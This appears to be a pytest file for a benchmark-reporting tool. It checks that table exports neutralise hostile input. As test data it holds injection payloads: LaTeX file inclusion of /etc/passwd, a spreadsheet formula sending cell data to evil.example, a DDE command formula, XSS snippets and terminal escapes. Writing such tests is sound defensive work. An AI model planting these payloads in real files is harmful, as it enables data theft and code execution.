"""Safe exports: a run directory full of hostile strings (LaTeX commands, spreadsheet
formulas, HTML, terminal escape sequences) is printed inert in every table format."""
import csv
import io
import json
import re

import pytest

from StaICC.report import format_table
from StaICC.report.commands import main
from StaICC.report.runs import load_run
from StaICC.report.tables import csv_text, latex_escape, markdown_escape, render, run_tables, terminal_escape

LATEX = r"\input{/etc/passwd}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
ESCAPE = "\x1b]0;owned\x07\x1b[31mred\u202e"


@pytest.fixture()
def hostile_run(tmp_path):
    directory = tmp_path / "run <img src=x onerror=alert(1)> \\input{x}"
    directory.mkdir()
    divided = {f"{SCRIPT}{ESCAPE}": {"accuracy": LATEX, DDE: 0.5, "macro_f1": 0.25},
               FORMULA: {"accuracy": 0.75, DDE: "@SUM(1+1)*cmd", "macro_f1": "+1-2"}}
    document = {"format": "staicc-results/1", "provenance": {"command": ["run"]}, "samples": None,
                "benchmarks": {"Normal": {"results": {"Averaged results": {"accuracy": FORMULA, DDE: -0.5},
                                                      "Divided results": divided},
                                          "metadata": {}}}}
    (directory / "results.json").write_text(json.dumps(document), encoding="utf-8")
    return str(directory)


def test_latex_prints_hostile_text_as_text(hostile_run):
    text = render(run_tables(load_run(hostile_run)), "latex")
    assert "\\input" not in text and "\\begin{tabular}" in text
    body = re.sub(r"\\(textbackslash|textasciitilde|textasciicircum)\{\}", "", text)
    commands = set(re.findall(r"\\([A-Za-z]+)", body))
    assert commands <= {"begin", "end", "centering", "caption", "toprule", "midrule", "bottomrule", "par",
                        "footnotesize", "small", "smallskip", "medskip", "raggedright", "cmidrule", "addlinespace", "allowbreak",
                        "setlength", "tabcolsep", "textbf", "textit", "multicolumn", "quad", "thetable",
                        "usepackage"}, commands  # the layout's own (usepackage: in the opening comment)
    assert "\x1b" not in text


def test_csv_neutralises_formula_cells_but_not_numbers(hostile_run):
    text = render(run_tables(load_run(hostile_run)), "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            float(cell)  # only a number may start so (a negative value)
    assert "'" + FORMULA in cells and "'" + DDE in cells and "'@SUM(1+1)*cmd" in cells and "'+1-2" in cells
    assert "-0.5" in cells


def test_markdown_has_no_html_and_no_broken_cells(hostile_run):
    text = render(run_tables(load_run(hostile_run)), "md")
    assert "<script" not in text and "&lt;script&gt;" in text
    for line in text.splitlines():
        if line.startswith("|"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 5  # dataset + 3 metrics: 4 cells, 5 bars
    assert "\x1b" not in text


def test_the_terminal_table_shows_escape_sequences_as_text(hostile_run, capsys):
    assert main(["report", hostile_run]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b]0;owned\\x07" in out


def test_the_run_table_printer_escapes_too():
    result = {"Divided results": {ESCAPE: {"accuracy": 0.5}}, "Averaged results": {"accuracy": 0.5}}
    table = format_table(result, f"title {ESCAPE}")
    assert "\x1b" not in table and "\u202e" not in table and "\\x1b[31mred" in table


@pytest.mark.parametrize("text", [LATEX, FORMULA, DDE, SCRIPT, ESCAPE, "a\nb\r\nc", "~^&%$#_{}"])
def test_each_escape_is_inert(text):
    assert "\\input" not in latex_escape(text) and "\n" not in latex_escape(text)
    assert not csv_text(text).startswith(("=", "+", "-", "@"))
    assert "<" not in markdown_escape(text) and "\n" not in markdown_escape(text)
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 for ch in terminal_escape(text))
